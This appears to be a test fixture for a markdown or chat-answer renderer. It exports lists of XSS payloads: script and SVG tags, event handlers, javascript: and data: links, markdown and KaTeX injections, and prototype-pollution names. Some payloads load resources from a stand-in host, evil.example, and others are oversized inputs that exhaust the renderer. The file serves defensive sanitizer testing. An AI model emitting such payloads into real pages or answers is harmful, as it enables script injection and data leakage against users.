/** What an answer may try. Each one that runs sets `pwned`; each address it may call is foreign. */

const RUN = "window.pwned=1";
const EVIL = "https://evil.example";

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script\x0c>${RUN}</script>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/a.swf"></object>`,
  `<embed src="${EVIL}/a.swf">`,
  `<link rel=stylesheet href="${EVIL}/a.css">`,
  `<link rel=prefetch href="${EVIL}/a">`,
  `<style>@import "${EVIL}/a.css";</style>`,
  `<style>*{background:url(${EVIL}/a)}</style>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"></use></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<xml><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
];

const HANDLERS = [
  "img src=x onerror",
  "svg onload",
  "body onload",
  "input autofocus onfocus",
  "details open ontoggle",
]
  .concat(["video src=x onerror", "audio src=x onerror", "marquee onstart", "select autofocus onfocus"])
  .concat([
    "div onmouseover",
    "a href=# onclick",
    "textarea autofocus onfocus",
    "iframe onload",
    "img/src=x/onerror",
  ])
  .map(start => `<${start}=${RUN}>`);

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61script:${RUN}`,
  `javascript&colon;${RUN}`,
  `\x01javascript:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "//evil.example/a",
  "\\\\evil.example\\a",
  "ftp://evil.example/a",
  "intent://evil.example#Intent;scheme=http;end",
];
const LINKS = SCHEMES.flatMap(address => [`[click](${address})`, `<${address}>`, `![image](${address})`]);

const MARKDOWN = [
  `[a][b]\n\n[b]: javascript:${RUN}`,
  `[a](<javascript:${RUN}>)`,
  `[a](https://a.b "onmouseover=${RUN}")`,
  `[a](https://a.b" onmouseover="${RUN})`,
  `![x](${EVIL}/pixel.png)`,
  `[![x](${EVIL}/pixel.png)](javascript:${RUN})`,
  `![" onerror="${RUN}](x)`,
  `\`\`\`js"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`__proto__\ncode\n\`\`\``,
  `\`\`\`constructor\ncode\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `| <img src=x onerror=${RUN}> | b |\n|-|-|\n| <script>${RUN}</script> | 2 |`,
  `- [ ] <img src=x onerror=${RUN}>`,
  `# <svg onload=${RUN}>`,
  `> <iframe src=javascript:${RUN}>`,
  `> [!NOTE]\n> <img src=x onerror=${RUN}>`,
  `> [!NOTE]\n> > [!constructor]\n> > [a](javascript:${RUN})`,
  `[^1]<svg onload=${RUN}>\n\n[^1]: <img src=x onerror=${RUN}> [a](javascript:${RUN})`,
  `[^1"] [^1'] [^1]] [^__proto__]\n\n[^1"]: x`,
  `\\<img src=x onerror=${RUN}>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
];

const FORMULAS = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${EVIL}/a.png}$`,
  `$\\htmlClass{x}{y}$`,
  `$\\htmlStyle{background:url(${EVIL}/a)}{y}$`,
  `$\\htmlData{a=b}{c}$`,
  "$\\def\\x{\\x\\x}\\x$",
  "$\\rule{1000000em}{1000000em}$",
  `$$\\text{<img src=x onerror=${RUN}>}$$`,
];

/** Hostile by size: what takes long to lex, to lay out, or to break into lines. */
export const SHAPES = [
  "a".repeat(1_000_000),
  "word ".repeat(60_000),
  `\`\`\`\n${"x".repeat(400_000)}\n\`\`\``,
  `\`\`\`python\n${"def f(x): return x\n".repeat(4_000)}\`\`\``,
  "a\n\n".repeat(8_000),
  "- a\n".repeat(8_000),
  `${"[a](b) ".repeat(900)}`,
  `${"**a** ".repeat(900)}`,
  `|${"a|".repeat(300)}\n|${"-|".repeat(300)}\n${`|${"1|".repeat(300)}\n`.repeat(60)}`,
  `${"> ".repeat(3_000)}deep`,
  `${"- ".repeat(3_000)}deep`,
  "*".repeat(10_000),
  "[".repeat(10_000),
  `|a|b|\n|-|-|\n${"|1|2|\n".repeat(1_500)}`,
  "e\u0301\u0322\u0316".repeat(2_000),
  `Z${"\u0300".repeat(5_000)}algo`,
  "\u202etxet desrever\u202c \u2066isolated\u2069",
  "\u0000\u0007\ufffe\uffff",
  "\ufffd broken pair \ufffd",
  "\u2028\u2029\u00ad\u200b\u200d\ufeff",
];

export const PAYLOADS = [...TAGS, ...HANDLERS, ...LINKS, ...MARKDOWN, ...FORMULAS, ...SHAPES];
